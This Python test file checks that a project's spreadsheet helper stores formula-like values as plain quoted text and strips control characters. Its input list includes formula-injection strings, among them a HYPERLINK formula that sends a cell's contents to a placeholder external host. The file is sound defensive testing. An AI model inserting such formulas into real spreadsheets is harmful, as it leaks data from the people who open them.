"""The one cell writer of every spreadsheet: text stays text, XML-illegal characters go."""

from __future__ import annotations

import datetime as dt
import io
import pathlib
import re

import pytest
from openpyxl import Workbook, load_workbook

from zhicheng.common.spreadsheet import row_cells, text_cell

HOSTILE = ['=HYPERLINK("http://x.example/?"&B2,"张三")', "=1+1", "+1", "-1", "@A1", "\t=1+1", "𠮷😀", "１２３"]


@pytest.mark.parametrize("write_only", [False, True])
def test_row_cells_keep_text_as_text(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("表") if write_only else wb.active
    ws.append(row_cells(ws, [*HOSTILE, "张\x0b三\x00", 7, 1.5, dt.date(2026, 1, 2), None]))
    buffer = io.BytesIO()
    wb.save(buffer)
    cells = list(load_workbook(buffer).worksheets[0].iter_rows(values_only=False))[0]
    for cell, expected in zip(cells, HOSTILE, strict=False):
        assert cell.data_type == "s" and cell.value == expected
    assert [c.quotePrefix for c in cells[:6]] == [True] * 6 and not cells[6].quotePrefix
    assert cells[len(HOSTILE)].value == "张三"
    assert [c.value for c in cells[len(HOSTILE) + 1:len(HOSTILE) + 3]] == [7, 1.5]
    assert cells[len(HOSTILE) + 3].value.date() == dt.date(2026, 1, 2)


def test_text_cell_of_anything():
    ws = Workbook().active
    assert text_cell(ws, None).value == ""
    assert text_cell(ws, 12).value == "12" and text_cell(ws, 12).data_type == "s"


def test_every_workbook_the_system_writes_uses_the_helper():
    """A module that makes a Workbook imports zhicheng.common.spreadsheet (else its cells may turn
    into formulas or break on a control character)."""
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path.name == "spreadsheet.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(", text) and "zhicheng.common.spreadsheet" not in text:
            offenders.append(str(path.relative_to(root)))
    assert not offenders, f"spreadsheets written without zhicheng.common.spreadsheet: {offenders}"
